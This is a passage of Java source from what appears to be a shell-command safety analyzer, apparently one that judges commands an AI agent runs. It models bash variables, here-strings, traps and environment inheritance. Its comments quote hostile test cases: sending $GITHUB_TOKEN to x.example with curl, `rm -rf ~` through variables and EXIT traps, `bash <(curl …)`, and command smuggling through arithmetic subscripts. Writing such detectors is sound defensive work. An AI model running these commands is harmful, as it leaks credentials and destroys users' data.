            String grown = append && !a.literal() && old != null && !value.startsWith("(") && !integers.contains(name)
                    ? withSecretSpellings(rawValue, vars) : null;
            if (grown != null) {
                // `U=https://x.example/?t=; U+="$GITHUB_TOKEN"` (left37): the held value grows by
                // the credential's spelling, as the one assignment `U=…$GITHUB_TOKEN` holds it
                vars.maybe.put(name, old + grown);
            }
            if (held != null && RANGE_READ.matcher(held).find()) {
                vars.heldRanges.put(name, held); // `d=$RANDOM`: one number of the range (see #lowRangeReadings)
            } else if (composed != null) {
                vars.heldRanges.put(name, composed);
            }
            if (forget0 && a.literal() && !append && !value.startsWith("(")) {
                // `true && x='a[$(CMD)]'; echo $((x))`: a value assigned only maybe is still
                // evaluated where a value is (arithmetic, prompts), like an inherited one
                vars.maybe.put(name, value);
            }
            if (!a.literal() && !append && !value.startsWith("(") && !integers.contains(name)) {
                copyReadings(a, name, vars, forget0);
            }
        } else if (append) {
            String old = known.get(name);
            if (old == null) {
                known.remove(name);
            } else {
                known.put(name, old + value);
            }
        } else {
            known.put(name, value);
        }
    }

    /** Most elements of an array whose words are tracked. */
    private static final int MAX_ARRAY = 64;

    /**
     * The elements of the array value in the source text of an assignment ({@code a=(W…)},
     * {@code a+=(W…)}), each decoded as bash decodes a word; null when any element is not a
     * plain literal word: an expansion or substitution, a {@code [KEY]=} element, a brace
     * expansion, a comment, a nested parenthesis, or too many.
     */
    static List<Word> arrayElements(String raw) {
        int open = raw.indexOf("=(");
        if (open < 0 || !raw.endsWith(")")) {
            return null;
        }
        String body = raw.substring(open + 2, raw.length() - 1);
        List<Word> out = new ArrayList<>();
        StringBuilder cur = new StringBuilder();
        boolean inWord = false;
        int i = 0;
        while (i < body.length()) {
            char ch = body.charAt(i);
            if (ch == ' ' || ch == '\t' || ch == '\n') {
                if (inWord && !addElement(cur.toString(), out)) {
                    return null;
                }
                cur.setLength(0);
                inWord = false;
                i++;
                continue;
            }
            if (!inWord && (ch == '#' || ch == '[')) {
                return null;
            }
            inWord = true;
            if (ch == '$' || ch == '`' || ch == '(' || ch == ')' || ch == '{' || ch == '}' || ch == '<' || ch == '>'
                    || ch == ';' || ch == '&' || ch == '|') {
                return null;
            }
            int end = i + 1;
            if (ch == '\'') {
                end = body.indexOf('\'', i + 1) + 1;
            } else if (ch == '"') {
                end = body.indexOf('"', i + 1) + 1;
                if (end > 0 && body.substring(i, end).indexOf('\\') >= 0) {
                    return null;
                }
            } else if (ch == '\\') {
                end = i + 2;
            }
            if (end <= i || end > body.length()) {
                return null;
            }
            cur.append(body, i, end);
            i = end;
        }
        return inWord && !addElement(cur.toString(), out) ? null : out;
    }

    private static boolean addElement(String raw, List<Word> out) {
        if (out.size() >= MAX_ARRAY) {
            return false;
        }
        Word w = BashWords.decode(raw);
        out.add(w);
        return w.literal();
    }

    /** {@code "$@"}, {@code ${a[*]}} and the like: a word that is one whole list expansion. */
    private static final Pattern LIST_EXPANSION = Pattern.compile(
            "(\"?)\\$(?:([@*])|\\{([@*])}|\\{([A-Za-z_][A-Za-z0-9_]*)\\[([@*])]})\\1");
    /** {@code $v} or {@code ${v}} alone, unquoted (matched whole). */
    private static final Pattern SOLE_VARIABLE = KnownParameters.REFERENCE;

    /**
     * The words one source word expands to when that is not one word: a known array or the known
     * positional parameters ({@code "${a[@]}"}, {@code "$@"}, {@code $*}; joined by a blank for a
     * quoted {@code *}), or an unquoted variable whose known value word splitting cuts into
     * several words ({@code c='rm -rf ~'; $c}). Unquoted elements are split and globbed by bash:
     * a part with glob characters is a glob word. Null when the word is anything else, or the
     * values are not known (the word is decoded as usual, dynamic).
     */
    private List<Word> listExpansion(String raw, Ctx c) {
        Vars v = c.vars();
        java.util.regex.Matcher m = LIST_EXPANSION.matcher(raw);
        if (m.matches()) {
            boolean quoted = !m.group(1).isEmpty();
            String which = m.group(2) != null ? m.group(2) : m.group(3) != null ? m.group(3) : m.group(5);
            List<Word> elements = m.group(4) == null ? v.positional : v.target(m.group(4)) == null ? v.arrays.get(m.group(4)) : null;
            if (elements == null || ifsTouched && (!quoted || which.equals("*"))) {
                return null;
            }
            Set<WordFeature> f = EnumSet.of(WordFeature.RESOLVED_VARIABLE);
            if (quoted && which.equals("*")) {
                String joined = String.join(" ", elements.stream().map(Word::text).toList());
                Set<WordFeature> all = EnumSet.copyOf(f);
                elements.forEach(e -> all.addAll(e.features()));
                all.remove(WordFeature.GLOB);
                return elements.stream().anyMatch(e -> e.has(WordFeature.GLOB)) ? null : List.of(new Word(joined, raw, true, all));
            }
            List<Word> out = new ArrayList<>();
            for (Word e : elements) {
                Set<WordFeature> ef = EnumSet.copyOf(f);
                ef.addAll(e.features());
                if (quoted) {
                    out.add(new Word(e.text(), raw, true, ef));
                } else {
                    splitWords(e.text(), raw, ef, out);
                }
            }
            return out;
        }
        m = SOLE_VARIABLE.matcher(raw);
        if (!m.matches() || ifsTouched) {
            return null;
        }
        String value = v.get(m.group(1) != null ? m.group(1) : m.group(2));
        if (value == null || value.isEmpty() || value.chars().noneMatch(ch -> " \t\n*?[".indexOf(ch) >= 0)) {
            return null; // decoded as one word (or dynamic) as before
        }
        List<Word> out = new ArrayList<>();
        splitWords(value, raw, EnumSet.of(WordFeature.RESOLVED_VARIABLE), out);
        return out;
    }

    /** Word splitting (default IFS) and globbing of an unquoted value: its parts, a glob word for each with glob characters. */
    private static void splitWords(String value, String raw, Set<WordFeature> features, List<Word> out) {
        for (String part : WHITESPACE.split(value.strip())) {
            if (part.isEmpty()) {
                continue;
            }
            Set<WordFeature> f = features.isEmpty() ? EnumSet.noneOf(WordFeature.class) : EnumSet.copyOf(features);
            if (part.chars().anyMatch(ch -> "*?[".indexOf(ch) >= 0)) {
                f.add(WordFeature.GLOB);
            }
            out.add(new Word(part, raw, true, f));
        }
    }

    // ------------------------------------------------------------------ data that bash evaluates

    /**
     * One evaluation: where the commands found in evaluated data go ({@code parent}, with the
     * opaque reasons of that segment), and the names whose values were evaluated already, so
     * that each value is read once however often or cyclically names refer to it.
     */
    private record Evaluation(Ctx c, int parent, Set<OpaqueReason> reasons, Set<String> seen) {

        static Evaluation of(Ctx c, int parent, Set<OpaqueReason> reasons) {
            return new Evaluation(c, parent, reasons, new HashSet<>());
        }

        static Evaluation of(Ctx c, Draft d) {
            return of(c, d.id, d.reasons);
        }
    }

    /**
     * {@code {NAME[SUB]}} before a redirection ({@code exec {a[i]}>file}) takes the descriptor's
     * number: the subscript is evaluated. The splitter keeps the word as an argument, so any word
     * of that shape counts.
     */
    private static final Pattern DESCRIPTOR_VARIABLE = Pattern.compile("\\{([A-Za-z_][A-Za-z0-9_]*\\[.*])}");

    /** {@code $[ EXPR ]}, bash's old arithmetic expansion: one token, no span of its own. */
    private static final Pattern OLD_ARITHMETIC = Pattern.compile("\\$\\[([^]]*)]");

    /**
     * The arithmetic and parameter expansions in a word token: the names in arithmetic,
     * subscripts, offsets and lengths whose known values bash evaluates, {@code ${!ref}} and
     * {@code ${x@P}} (see {@link ShellEvaluation}).
     */
    private void wordEvaluations(Token tok, Unit u, Evaluation e) {
        for (BashLexerBase.Span s : u.evaluations().subMap(tok.getStartIndex(), true, tok.getStopIndex(), true).values()) {
            String inner = u.text().substring(s.innerStart(), Math.max(s.innerStart(), s.innerEnd()));
            if (s.kind() == BashLexer.ARITH_OPEN) {
                arithmeticText(inner, e);
            } else {
                parameterEvaluation(ShellEvaluation.parameter(inner), e);
            }
        }
        java.util.regex.Matcher m = OLD_ARITHMETIC.matcher(tok.getText());
        while (m.find()) {
            arithmeticText(m.group(1), e);
        }
    }

    /**
     * The names of an arithmetic text (source, or a value being evaluated): each known value is
     * evaluated as arithmetic in turn. A name whose value is unknown is left alone: arithmetic on
     * computed numbers is everyday work, and the value came from a command the rules judged.
     */
    private void arithmeticText(String expr, Evaluation e) {
        for (String name : ShellEvaluation.arithmeticNames(expr)) {
            String value = e.c().vars().evaluated(name);
            if (value != null && e.seen().add(name)) {
                evaluatedValue(value, e);
            }
        }
    }

    /**
     * A variable's value that bash evaluates as arithmetic ({@code x='a[$(CMD)]'; echo $((x))}):
     * the substitutions in it run (bash expands them in subscripts; any of them is split, to fail
     * closed) and its names are evaluated in turn.
     */
    private void evaluatedValue(String value, Evaluation e) {
        if (ShellEvaluation.substitutes(value)) {
            heredocChildren(value, e);
        }
        arithmeticText(value, e);
    }

    /**
     * A word bash evaluates as arithmetic after its expansion ({@code let} arguments,
     * {@code [[ -eq ]]} operands, values of integer variables): a literal word is a value; of a
     * dynamic one only the names can be known.
     */
    private void arithmeticWord(Word w, Evaluation e) {
        if (w.literal()) {
            evaluatedValue(w.text(), e);
        } else {
            arithmeticText(w.text(), e);
        }
    }

    /**
     * A word a builtin reads as a variable name ({@code NAME}, {@code NAME[SUB]}, maybe
     * {@code =VALUE}): bash evaluates the subscript. With {@code computedOpaque}, a name computed
     * at run time ({@code declare "$v"}, {@code printf -v "$1"}) is opaque: it may hold any
     * subscript, or any assignment.
     */
    private void nameReference(Word w, Evaluation e, boolean computedOpaque) {
        if (ShellEvaluation.referencedName(w.text()).isEmpty()) {
            if (!w.literal() && computedOpaque) {
                e.reasons().add(OpaqueReason.DYNAMIC_ARGUMENT);
            }
            return;
        }
        String sub = ShellEvaluation.subscript(w.text());
        if (sub != null) {
            arithmeticWord(new Word(sub, sub, w.literal(), w.features()), e);
        }
    }

    /** {@code ${…}}: its arithmetic parts, the reference of {@code ${!ref}}, the prompt of {@code ${x@P}}. */
    private void parameterEvaluation(ShellEvaluation.Parameter p, Evaluation e) {
        p.arithmetic().forEach(a -> arithmeticText(a, e));
        String value = p.name().isEmpty() ? null : e.c().vars().evaluated(p.name());
        if (p.prompt()) {
            if (e.c().vars().get(p.name()) == null) {
                // prompt expansion of a value the text does not show (or only may be the one
                // seen) runs whatever it holds
                e.reasons().add(OpaqueReason.DYNAMIC_EVAL);
            }
            if (value != null) {
                promptValue(value, e);
            }
        }
        if (p.indirect() && value != null) {
            nameReference(Word.literal(value), e, false);
        }
    }

    /**
     * The assignments a wrapper passes to its command ({@code env PS4='$(CMD)' bash -x s.sh},
     * {@code nohup env …}): a prompt variable's value is read as a bare {@code PS4='$(CMD)'}
     * assignment's is ({@link #assignedValue}); the child gets no integer or nameref attribute.
     */
    private void wrappedPrompts(List<Word> assignments, Evaluation e) {
        for (Word a : assignments) {
            String value = ShellEvaluation.assignedValue(a.text());
            if (value != null && a.literal() && ShellEvaluation.PROMPTS.contains(ShellEvaluation.referencedName(a.text()))) {
                promptValue(value, e);
            }
        }
    }

    /** A value expanded like a prompt string: its command substitutions run. */
    private void promptValue(String value, Evaluation e) {
        if (ShellEvaluation.substitutes(value)) {
            heredocChildren(value, e);
        }
    }

    /**
     * What a simple command makes bash evaluate besides its words: the arguments of {@code let},
     * the names builtins assign or test (and their subscripts), array element assignments, and
     * the values of integer variables, namerefs and prompt strings.
     */
    private void commandEvaluations(Draft d, Evaluation e) {
        for (Word a : d.assignments) {
            nameReference(a, e, false);
            assignedValue(a, e, false, false);
        }
        for (Word w : d.argv) {
            java.util.regex.Matcher fd = DESCRIPTOR_VARIABLE.matcher(w.text());
            if (fd.matches()) {
                nameReference(new Word(fd.group(1), fd.group(1), w.literal(), w.features()), e, false);
            }
        }
        if (d.argv.isEmpty() || !d.argv.get(0).literal()) {
            return;
        }
        String name = d.argv.get(0).text();
        if (name.equals("let")) {
            d.argv.subList(1, d.argv.size()).forEach(w -> arithmeticWord(w, e));
        }
        boolean declaration = ShellEvaluation.DECLARATIONS.contains(name);
        // export and readonly reject a subscripted name and make no nameref: a computed operand
        // only sets an environment variable (`export $(grep -v '^#' .env | xargs)`)
        boolean computedOpaque = !name.equals("export") && !name.equals("readonly");
        for (Word w : ShellEvaluation.nameOperands(d.argv)) {
            nameReference(w, e, computedOpaque);
            if (declaration) {
                assignedValue(w, e, ShellEvaluation.declares(d.argv, 'i'), ShellEvaluation.declares(d.argv, 'n'));
            }
        }
        if (!declaration) {
            promptAssignedByName(d, name, e);
        }
    }

    /**
     * {@code read x <<< 'a[$(CMD)]'}: the names read get the here-string's first line (each of
     * them, over-approximating the split) as a maybe value, evaluated where bash evaluates values
     * ({@code echo $((x))}); never resolved into a word.
     */
    private void readHereString(Draft d, Vars vars) {
        for (Redirect r : d.redirects) {
            String spelled = r.op().equals("<<<") && !r.target().literal() ? spelledParameter(r.target().raw()) : null;
            if (spelled != null) {
                // `read p <<< $$`, `IFS= read -r t <<< "$GITHUB_TOKEN"` (rt34b): the names hold the
                // parameter read by its spelling, as `p=$$` does (see #spelledParameter)
                ShellEvaluation.nameOperands(d.argv).stream()
                        .filter(n -> n.literal() && dev.shellwarden.grammar.bash.Names.isIdentifier(n.text()))
                        .forEach(n -> vars.maybe.put(n.text(), spelled));
            } else if (r.op().equals("<<<") && !r.target().literal()) {
                readMixedHereString(d, r.target().raw(), vars);
            }
            if (r.op().equals("<<<") && r.target().literal()) {
                String line = r.target().text().lines().findFirst().orElse("");
                List<Word> names = ShellEvaluation.nameOperands(d.argv).stream()
                        .filter(n -> n.literal() && dev.shellwarden.grammar.bash.Names.isIdentifier(n.text())).toList();
                // default IFS: a field per name, the last takes the rest; a changed IFS: the whole line each
                boolean ifs = d.assignments.stream().anyMatch(a -> a.text().startsWith("IFS="));
                String[] fields = ifs || names.size() < 2 ? null : line.strip().split("\\s+", names.size());
                for (int k = 0; k < names.size(); k++) {
                    String value = fields == null ? (ifs ? line : line.strip()) : k < fields.length ? fields[k] : "";
                    vars.maybe.put(names.get(k).text(), value);
                }
            }
        }
    }

    /** mapfile's options that take a value ({@code -d DELIM}, {@code -u FD}, {@code -C CALLBACK}…). */
    private static final Set<String> MAPFILE_VALUED = Set.of("-d", "-n", "-O", "-s", "-u", "-C", "-c");

    /**
     * {@code mapfile}/{@code readarray} of a here-string holding a {@link #SPELLED_PARAMETER} or
     * credential-named variables among literal text: the array's elements are its lines, kept as
     * maybe elements with the spellings ({@code mapfile -t A <<< "…$GITHUB_TOKEN"; curl "${A[0]}"}).
     * WHY (left37b): read of the same here-string was read (#readMixedHereString), mapfile's not.
     */
    private void mapfileHereString(Draft d, Vars vars) {
        String array = "MAPFILE";
        for (int k = 1; k < d.argv.size(); k++) {
            Word w = d.argv.get(k);
            if (!w.literal()) {
                return;
            }
            if (MAPFILE_VALUED.contains(w.text())) {
                k++;
            } else if (!w.text().startsWith("-")) {
                array = w.text();
            }
        }
        if (!dev.shellwarden.grammar.bash.Names.isIdentifier(array)) {
            return;
        }
        for (Redirect r : d.redirects) {
            if (!r.op().equals("<<<") || r.target().literal()) {
                continue;
            }
            String spelled = spelledParameter(r.target().raw());
            String value = spelled != null ? spelled : withSecretSpellings(r.target().raw(), vars);
            List<Word> lines = value == null ? List.of() : value.lines().map(Word::literal).toList();
            if (!lines.isEmpty()) {
                vars.maybeArrays.put(array, lines);
                vars.maybe.put(array, lines.get(0).text());
            }
        }
    }

    /**
     * {@code read} of a here-string mixing literal text with parameters: a name whose field is a
     * {@link #SPELLED_PARAMETER} holds its spelling ({@code IFS=: read -r a p <<< "x:$PPID"}), a
     * single name the whole line with credential-named variables spelled
     * ({@code read -r U <<< "https://x.example/?t=$GITHUB_TOKEN"}, see #withSecretSpellings).
     * WHY (left37): both left the name unread, so {@code kill -9 $p} and {@code curl "$U"} were
     * judged without the parameter; maybe values only add findings.
     */
    private void readMixedHereString(Draft d, String raw, Vars vars) {
        List<String> names = ShellEvaluation.nameOperands(d.argv).stream()
                .filter(n -> n.literal() && dev.shellwarden.grammar.bash.Names.isIdentifier(n.text())).map(Word::text).toList();
        if (names.isEmpty()) {
            return;
        }
        Word ifs = d.assignments.stream().filter(a -> a.text().startsWith("IFS=")).findFirst().orElse(null);
        String separators = ifs == null ? " \t\n" : ifs.literal() ? ifs.text().substring(4) : null;
        String body = raw.length() > 1 && raw.startsWith("\"") && raw.endsWith("\"") ? raw.substring(1, raw.length() - 1) : raw;
        if (names.size() > 1 && separators != null && !separators.isEmpty()
                && body.chars().noneMatch(ch -> "\"'\\`".indexOf(ch) >= 0)) {
            // a field per name at any separator, the last takes the rest (over-approximating IFS's rules)
            List<String> fields = new ArrayList<>();
            int from = 0;
            for (int i = 0; i < body.length() && fields.size() < names.size() - 1; i++) {
                if (separators.indexOf(body.charAt(i)) >= 0) {
                    fields.add(body.substring(from, i));
                    from = i + 1;
                }
            }
            fields.add(body.substring(from));
            for (int k = 0; k < fields.size(); k++) {
                String field = fields.get(k);
                String spelled = spelledParameter(field);
                String value = spelled != null ? spelled : withSecretSpellings("\"" + field + "\"", vars);
                if (value != null) {
                    vars.maybe.put(names.get(k), value);
                }
            }
            return;
        }
        String whole = withSecretSpellings(raw, vars);
        if (whole != null) {
            names.forEach(n -> vars.maybe.put(n, whole));
        }
    }

    /** The index of one {@code [INDEX]=VALUE} element of an array value {@code (…)}. */
    private static final Pattern ELEMENT_INDEX = Pattern.compile("(?:^\\(|\\s)\\[([^]]*)]\\+?=");

    /**
     * The value of an assignment ({@code NAME=V} before a command or as a declaration's operand)
     * where bash evaluates it: as arithmetic for an integer variable, as a variable reference for
     * a nameref, as a prompt for {@code PS0}–{@code PS4}.
     */
    private void assignedValue(Word a, Evaluation e, boolean integer, boolean nameref) {
        String value = ShellEvaluation.assignedValue(a.text());
        if (value == null) {
            return;
        }
        String name = ShellEvaluation.referencedName(a.text());
        if (value.startsWith("(")) {
            // `a=([x]=1)`, `a+=([i+1]=v)`: the index of an indexed array's element is arithmetic
            java.util.regex.Matcher m = ELEMENT_INDEX.matcher(value);
            while (m.find()) {
                arithmeticText(m.group(1), e);
            }
        }
        Word v = new Word(value, value, a.literal(), a.features());
        if (integer || integers.contains(name)) {
            arithmeticWord(v, e);
        }
        if (nameref || namerefs.contains(name)) {
            nameReference(v, e, false);
        }
        if (ShellEvaluation.PROMPTS.contains(name) && a.literal()) {
            promptValue(value, e);
        }
    }

    // ------------------------------------------------------------------ wrappers and payloads

    /**
     * {@code trap ACTION SIGNAL…}: ACTION runs later, in this shell. For EXIT alone it runs once,
     * when the shell ends, so it is split after the whole text with the variables' last values
     * ({@code T=/tmp/x; trap 'rm -rf "$T"' EXIT; T=~} deletes the home); any other signal can run
     * it between any two commands ({@code kill -INT $$}), so it sees no variable and makes them
     * all unknown, like eval.
     */
    private void trap(Draft d, String action, List<String> wrappers, Ctx c) {
        int signals = d.argv.get(1).text().equals("--") ? 3 : 2;
        if (d.argv.size() > signals && d.argv.subList(signals, d.argv.size()).stream().anyMatch(BashWalker::debugSignal)
                && (extdebugMayBeOn() || ZSH_DEBUG_SKIP.matcher(action).find())) {
            // with extdebug a DEBUG trap whose action fails skips the command it precedes (and one
            // returning 2 returns from the function): `cd build` may not run before `rm -rf *`, an
            // assignment or a `set -e` may not happen, so no straight-line reading after it holds;
            // in zsh an action that sets ERR_EXIT skips the command without extdebug
            d.reasons.add(OpaqueReason.UNSUPPORTED_CONSTRUCT);
        }
        boolean atExit = d.argv.size() > signals && d.argv.subList(signals, d.argv.size()).stream()
                .allMatch(s -> s.literal() && Set.of("EXIT", "SIGEXIT", "0").contains(s.text().toUpperCase(java.util.Locale.ROOT)));
        Ctx body = new Ctx(d.id, d.depth + 1, Provenance.EVAL_PAYLOAD, List.copyOf(wrappers),
                atExit ? c.vars() : new Vars(), c.conditional(), List.of(), List.of(), false);
        if (atExit) {
            exitTraps.add(() -> nested(action, body));
        } else {
            nested(action, body);
            c.vars().known.clear();
        }
    }

    /**
     * A DEBUG trap action that may set zsh's ERR_EXIT, which makes zsh skip the command the trap
     * runs before: the option by any spelling (zsh ignores case and underscores), any option
     * setting ({@code setopt}, {@code set -e}, {@code set -o}, {@code emulate}), or loaded text the
     * walk cannot see ({@code eval}, {@code source}); an expansion in an argument sets no option,
     * and a computed command word is opaque in the action's own reading.
     */
    private static final Pattern ZSH_DEBUG_SKIP = Pattern.compile(
            "(?i)err_?exit|setopt|emulate|(^|[\\s;&|(){}'\"`])(set\\s+[-+]|eval|source|\\.\\s)");

    /** A trap's signal word that is or may be DEBUG (bash reads signal names in any case; a computed one may be it). */
    private static boolean debugSignal(Word w) {
        return !w.literal() || w.text().equalsIgnoreCase("DEBUG") || w.text().equalsIgnoreCase("SIGDEBUG");
    }

    /**
     * Text that may switch bash's extdebug on, or set a DEBUG trap the walk does not see: the
     * option by name, {@code bash --debugger}, {@code BASHOPTS}, any {@code shopt} (its option may
     * be computed), and text loaded from elsewhere ({@code source}, {@code .}, {@code eval}).
     */
    private static final Pattern EXTDEBUG_SOURCES = Pattern.compile(
            "extdebug|--debugger|BASHOPTS|(^|[\\s;&|(){}'\"`])(shopt|source|\\.|eval)([\\s;&|()'\"`]|$)");

    /** Text loaded from elsewhere anywhere in the text ({@code source}, {@code .}, {@code eval}): it may set a DEBUG trap. */
    private static final Pattern LOADERS = Pattern.compile("(^|[\\s;&|(){}'\"`])(source|\\.|eval)([\\s;&|()'\"`]|$)");

    /** True when extdebug may be on while the text runs (see {@link #EXTDEBUG_SOURCES}); text loaded before may have set it. */
    private boolean extdebugMayBeOn() {
        return textLoaded || EXTDEBUG_SOURCES.matcher(text).find();
    }

    /**
     * {@code shopt -s extdebug} (or a computed option) in a text that loads other text: a DEBUG
     * trap set there ({@code source ./env.sh}, {@code eval "$T"}) may skip any command after it,
     * so no straight-line reading holds. Without a loader, the DEBUG traps of the text itself are
     * read by {@link #trap}.
     */
    private void extdebugWithLoadedText(Draft d, String name) {
        if (!name.equals("shopt") || d.argv.stream().skip(1).noneMatch(w -> w.literal() && w.text().matches("-[a-z]*s[a-z]*"))) {
            return;
        }
        boolean extdebug = d.argv.stream().skip(1).anyMatch(w -> !w.literal() || w.text().equals("extdebug"));
        if (extdebug && (textLoaded || LOADERS.matcher(text).find())) {
            d.reasons.add(OpaqueReason.UNSUPPORTED_CONSTRUCT);
        }
    }

    /** The context of text that {@code d} runs in a new shell or program: one level deeper, no variables known. */
    private static Ctx childCtx(Draft d, Provenance provenance, List<String> wrappers) {
        // only a shell on this machine, or a wrapper that keeps the environment, surely hands it
        // on; ssh, containers, VMs, sudo, su and tools that run settings get maybe values
        Vars env = d.env == null ? new Vars() : runsWithEnvironment(d) ? d.env.copy() : d.env.environment(false);
        return new Ctx(d.id, d.depth + 1, provenance, List.copyOf(wrappers), env, false, List.of(), List.of(), false);
    }

    /** True when the text {@code d} runs (a payload, a script) surely starts with {@code d}'s environment. */
    private static boolean runsWithEnvironment(Draft d) {
        String path = d.argv.isEmpty() ? "" : d.argv.get(0).text();
        String name = path.substring(path.lastIndexOf('/') + 1);
        return !d.argv.isEmpty() && d.argv.get(0).literal() && (Wrappers.SHELLS.contains(name) || name.equals("source") || name.equals("."))
                || keepsEnvironment(d);
    }

    /** Wrappers that start their command with the environment they got (a child shell sees the exports). */
    /**
     * True when {@code timeout [OPTION…] DURATION CMD} sets a literal limit of at most an hour:
     * {@code timeout 0} runs the command with no limit, and a computed or days-long duration is
     * no bound the agent waits out. Neither is a signal the command ignores by default
     * ({@code -s 0}, {@code -s CONT}, {@code --signal=WINCH}) without {@code -k}: timeout sends it
     * and goes on waiting.
     */
    private static final Pattern IGNORED_SIGNALS = Pattern.compile("(?i)0+|(SIG)?(CHLD|CLD|CONT|URG|WINCH)|17|18|23|28");

    private static boolean timeoutBounds(List<Word> argv) {
        String signal = "TERM";
        boolean killAfter = false;
        for (int i = 1; i < argv.size(); i++) {
            Word w = argv.get(i);
            String t = w.text();
            if (!w.literal()) {
                return false;
            }
            if (t.equals("-s") || t.equals("--signal")) {
                signal = i + 1 < argv.size() ? argv.get(i + 1).text() : signal;
                i++;
            } else if (t.equals("-k") || t.equals("--kill-after")) {
                killAfter = true;
                i++;
            } else if (t.startsWith("--signal=") || t.startsWith("-s") && !t.startsWith("--")) {
                signal = t.substring(t.startsWith("--") ? "--signal=".length() : 2);
            } else if (t.startsWith("--kill-after=") || t.startsWith("-k") && !t.startsWith("--")) {
                killAfter = true;
            } else if (!t.startsWith("-") || t.equals("-")) {
                if (!killAfter && IGNORED_SIGNALS.matcher(signal).matches()) {
                    return false;
                }
                double seconds = Durations.gnuSeconds(t); // NaN for a spelling it cannot read: no bound
                return seconds > 0 && seconds <= Durations.LONGEST_BOUND_SECONDS;
            }
        }
        return false;
    }

    private static final Set<String> KEEPS_ENVIRONMENT = Set.of("nohup", "timeout", "nice", "ionice", "stdbuf", "xargs",
            "find", "command", "builtin", "exec", "setsid", "flock", "chrt", "taskset", "unbuffer", "watch", "strace",
            "ltrace", "time", "caffeinate", "fakeroot", "chroot", "parallel", "env", "sudo", "nsenter", "script");

    /**
     * The environment {@code d}'s programs start with: the exported known values of the shell
     * that runs it (or of the wrapper that runs it, unless that wrapper may reset the
     * environment: {@code env -i}, {@code sudo} without {@code -E}, anything not in
     * {@link #KEEPS_ENVIRONMENT}), plus the command's own literal assignments
     * ({@code x='a[$(CMD)]' bash -c 'echo $((x))'}, {@code env c=… sh -c …}).
     */
    private Vars environment(Draft d, Ctx c) {
        Vars env;
        if (d.depth > c.depth() && d.parent >= 0 && drafts.get(d.parent).env != null) {
            Draft p = drafts.get(d.parent);
            env = p.env.environment(keepsEnvironment(p));
        } else {
            env = c.vars().environment(true);
        }
        for (Word a : d.assignments) {
            String name = ShellEvaluation.referencedName(a.text());
            String value = ShellEvaluation.assignedValue(a.text());
            if (name.isEmpty()) {
                continue;
            }
            if (a.literal() && value != null && ShellEvaluation.subscript(a.text()) == null && !value.startsWith("(")
                    && !a.text().startsWith(name + "+=")) {
                env.known.put(name, value);
                env.exported.add(name);
            } else {
                env.forget(name);
            }
        }
        return env;
    }

    /** True when wrapper {@code p} surely starts its command with the environment it got. */
    private static boolean keepsEnvironment(Draft p) {
        if (p.argv.isEmpty() || !p.argv.get(0).literal()) {
            return false;
        }
        String path = p.argv.get(0).text();
        String name = path.substring(path.lastIndexOf('/') + 1);
        if (!KEEPS_ENVIRONMENT.contains(name)) {
            return false;
        }
        for (Word w : p.argv.subList(1, p.argv.size())) {
            String t = w.text();
            if (!w.literal()) {
                return false;
            }
            if (name.equals("env") && (t.equals("-") || t.equals("--ignore-environment") || t.startsWith("--unset")
                    || t.matches("-[a-zA-Z0-9]*[iu].*"))) {
                return false;
            }
            if (name.equals("sudo") && (t.equals("-E") || t.equals("--preserve-env"))) {
                return true;
            }
        }
        return !name.equals("sudo");
    }

    private void analyze(Draft d, Ctx c, boolean stdinFile) {
        if (d.argv.isEmpty()) {
            // `PAGER='…'; git log`: a variable the user's shell already exports (PAGER, EDITOR)
            // keeps being exported with the new value, which later programs run
            if (!d.assignments.isEmpty()) {
                settingCommands(d, "", new ArrayList<>(d.wrappers));
            }
            return;
        }
        if (!d.argv.get(0).literal()) {
            d.reasons.add(OpaqueReason.DYNAMIC_COMMAND);
            return;
        }
        d.env = environment(d, c);
        String path = d.argv.get(0).text();
        String name = path.substring(path.lastIndexOf('/') + 1);
        if (name.equals("coproc") || ZshMeanings.MODULE_BUILTINS.contains(name)
                || name.equals("zmodload") && ZshMeanings.loadsUnquietModule(d.argv)) {
            // coproc NAME cmd: an asynchronous co-process the splitter does not model; zsh's
            // descriptor and socket builtins and the modules that bring them (ZshMeanings)
            d.reasons.add(OpaqueReason.UNSUPPORTED_CONSTRUCT);
        }
        if (name.equals("r") && (d.argv.size() < 2 || !d.argv.get(1).literal() || !d.argv.get(1).text().matches("-.*|.*\\.[Rr]"))) {
            // zsh's and ksh's `r [old=new] [prefix]` runs a command again from the history, which the
            // text does not show (under a wrapper, some other program named r: unknown too); littler's
            // `r` (R) is given options or a script
            d.reasons.add(OpaqueReason.UNSUPPORTED_CONSTRUCT);
        }
        extdebugWithLoadedText(d, name);
        if (readsScriptFile(name) && d.argv.stream().skip(1).anyMatch(w -> w.has(WordFeature.PROCESS_SUBSTITUTION))) {
            // `bash <(curl …)`, `source <(…)`: the script is another command's output
            d.reasons.add(OpaqueReason.INTERPRETER_SCRIPT);
        }
        List<String> wrappers = new ArrayList<>(d.wrappers);
        // `timeout 0 CMD` sets no limit at all (and an unread or hours-long duration is no bound
        // the agent can wait for): it is recorded under another name, so that no rule takes it as a bound
        wrappers.add((name.equals("timeout") || name.equals("gtimeout")) && !timeoutBounds(d.argv) ? name + "-unbounded" : name);
        settingCommands(d, name, wrappers);
        autoRunScript(d, name, wrappers);
        scriptsRun(d, name, wrappers);
        noteMakeSettings(d);
        writtenFilesRun(d, name, wrappers);
        sshConfigText(d, name);
        rememberWrittenScripts(d, name);
        stdinShellCommands(d, name, wrappers, stdinFile);
        for (Wrappers.Unwrap w : Wrappers.unwrap(d.argv)) {
            Ctx inner = childCtx(d, w.provenance(), wrappers);
            if (d.depth + 1 > MAX_DEPTH && w.kind() != Wrappers.Kind.NONE && w.kind() != Wrappers.Kind.UNDETERMINED) {
                d.reasons.add(OpaqueReason.LIMIT_EXCEEDED);
                continue;
            }
            switch (w.kind()) {
                case COMMAND -> {
                    // the wrapped program inherits the wrapper's descriptors: its output goes where
                    // the wrapper's redirections send it (`nice cat /dev/urandom > f`), and so does
                    // its input, except under xargs and parallel, which read that input themselves
                    List<Redirect> inherited = name.equals("xargs") || name.equals("parallel")
                            ? d.redirects.stream().filter(Redirect::writes).toList() : List.copyOf(d.redirects);
                    Draft child = add(new Draft(drafts.size(), d.id, d.depth + 1, w.provenance(), List.copyOf(wrappers),
                            w.argv(), w.assignments(), inherited, d.heredocs, d.position));
                    child.heredocDynamic.addAll(d.heredocDynamic);
                    wrappedPrompts(w.assignments(), Evaluation.of(c, child));
                    analyze(child, c, stdinFile);
                    if (name.equals("find") && w.provenance() == Provenance.FIND_EXEC) {
                        foundPathDeletes(d, child);
                    }
                    List<Word> resolved = name.equals("xargs") ? xargsWithLiteralInput(d, w.argv()) : null;
